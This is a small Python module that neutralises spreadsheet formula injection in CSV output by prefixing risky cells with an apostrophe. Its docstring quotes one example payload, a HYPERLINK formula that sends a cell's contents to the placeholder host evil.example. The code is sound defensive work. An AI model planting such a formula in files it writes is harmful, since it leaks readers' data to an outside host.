"""CSV cells that a spreadsheet will not run as formulas (pure; issue 24, low).

A cell that begins with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return,
which some spreadsheets skip before looking) is read as a formula by Excel, LibreOffice
and Google Sheets: ``=HYPERLINK("https://evil.example/?"&A1, "open")`` in a unit's or a
category's name would run on the reader's machine. Such cells are written with a
leading apostrophe, which spreadsheets show as text. Every CSV Docket writes goes
through ``safe_row``.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in row]


def safe_rows(rows: Iterable[Iterable[Any]]) -> Iterable[list[Any]]:
    return (safe_row(row) for row in rows)
